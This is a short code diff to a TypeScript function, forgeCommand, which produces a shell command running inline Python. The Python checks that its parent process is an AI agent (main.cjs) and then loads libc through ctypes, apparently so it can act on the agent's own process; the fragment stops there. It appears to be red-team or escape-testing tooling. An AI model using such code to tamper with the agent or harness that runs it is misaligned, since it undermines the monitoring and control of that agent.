@@ -24,7 +24,7 @@ function forgeCommand(payload: string): string {
   return `python3 - "$PPID" <<'EOF'
 import ctypes, os, sys
 agent = int(sys.argv[1])
-if b"main.js" not in open(f"/proc/{agent}/cmdline", "rb").read():
+if b"main.cjs" not in open(f"/proc/{agent}/cmdline", "rb").read():
     print("unreachable: parent is not the agent"); sys.exit(0)
 libc = ctypes.CDLL(None, use_errno=True)
 try:
